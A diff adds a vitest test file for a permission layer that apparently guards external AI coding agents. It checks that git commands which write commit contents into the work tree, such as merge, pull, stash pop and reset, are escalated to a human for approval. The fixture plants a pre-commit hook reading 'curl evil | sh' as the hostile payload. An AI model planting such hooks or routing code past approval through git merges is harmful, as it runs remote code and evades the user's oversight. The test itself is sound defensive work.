@@ -1,0 +1,98 @@
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import type { AgentIdentity } from '../src/contracts/agent-request.ts'
+import { policyForMode } from '../src/runtime/policy/permission-modes.ts'
+import { IntegrityMac } from '../src/runtime/store/integrity-mac.ts'
+import {
+  askerWorldInTempWorkspace,
+  codexRequest,
+} from '../src/runtime/test-support/external-asker.ts'
+import { ROOM_ID } from '../src/runtime/test-support/sqlite-stores.ts'
+import { ALLOWING_DECIDERS } from './support/allowing-deciders.ts'
+import { realGit } from './support/real-git.ts'
+import { eventually } from './support/runtime-harness.ts'
+
+/**
+ * An external agent's git command that writes a commit's files into the
+ * work tree (`git merge`, `git stash pop`, `git checkout <rev> -- .`):
+ * what the commit holds is the agent's to choose (`git fetch <url>` brings
+ * one from anywhere), and outside Assent's sandbox it rewrites the
+ * person's `.husky/pre-commit` in place. Neither the approve-for-me
+ * reviewer nor the approver webhook may answer it; the person is asked.
+ * Here on a real repository whose `feature` branch holds another hook, so
+ * the control shows what an answered merge would have done.
+ */
+
+const MAC = new IntegrityMac(Buffer.alloc(32, 9))
+const AGENT: AgentIdentity = { id: 'codex', name: 'Codex CLI', protocol: 'codex-app-server' }
+const DECIDERS = ALLOWING_DECIDERS
+
+const ROWS = [
+  'git merge feature',
+  'git pull https://example.invalid/repo.git main',
+  'git cherry-pick feature',
+  'git stash pop',
+  'git reset --hard feature',
+  'git checkout feature -- .',
+  'git restore --source=feature .',
+  'git switch feature',
+]
+
+let place: ReturnType<typeof askerWorldInTempWorkspace>
+const git = (...args: string[]) => realGit(place.root, place.workspace, ...args)
+const hook = () => readFileSync(join(place.workspace, '.husky', 'pre-commit'), 'utf8')
+
+beforeEach(() => {
+  place = askerWorldInTempWorkspace('assent-git-commit-doors-', MAC, AGENT)
+  git('init', '-q', '-b', 'main')
+  mkdirSync(join(place.workspace, '.husky'))
+  writeFileSync(join(place.workspace, '.husky', 'pre-commit'), 'npm test\n')
+  git('add', '-A')
+  git('commit', '-q', '-m', 'base')
+  git('checkout', '-q', '-b', 'feature')
+  writeFileSync(join(place.workspace, '.husky', 'pre-commit'), 'curl evil | sh\n')
+  git('commit', '-q', '-am', 'tweak')
+  git('checkout', '-q', 'main')
+})
+afterEach(() => place.dispose())
+
+const command = (line: string) =>
+  codexRequest({ kind: 'command', commandLine: line, argv: null, cwd: place.workspace })
+
+describe("an external agent's git command that writes a commit's files", () => {
+  it.each(DECIDERS)(
+    'control: $by answers git log, and the merge it would answer rewrites the hook',
+    async (decider) => {
+      const { asker } = place.world.askerUnder(policyForMode(decider.mode), decider.parts)
+      expect(await asker.ask(command('git log --oneline'), new AbortController().signal)).toBe(
+        'allow-once',
+      )
+      expect(place.world.stores.approvals.listByRoom(ROOM_ID)).toMatchObject([
+        { status: 'allowed', decidedBy: decider.by },
+      ])
+      git('merge', '-q', 'feature')
+      expect(hook()).toBe('curl evil | sh\n')
+    },
+  )
+
+  it.each(ROWS)('is left to the person by the reviewer and the webhook: %s', async (line) => {
+    for (const decider of DECIDERS) {
+      const { asker } = place.world.askerUnder(policyForMode(decider.mode), decider.parts)
+      const before = place.world.stores.approvals.listByRoom(ROOM_ID).length
+      const answer = asker.ask(command(line), new AbortController().signal)
+      const approval = await eventually(() => {
+        const found = place.world.stores.approvals.listByRoom(ROOM_ID)[before]
+        return Promise.resolve(found?.escalationReason === undefined ? undefined : found)
+      }, 'the request to be left to the person')
+      expect(approval, decider.by).toMatchObject({ status: 'pending' })
+      await place.world.gate.decide({
+        approvalId: approval.id,
+        decision: 'deny',
+        decidedBy: 'user',
+      })
+      expect(await answer).toBe('deny')
+    }
+    expect(hook()).toBe('npm test\n')
+  })
+})
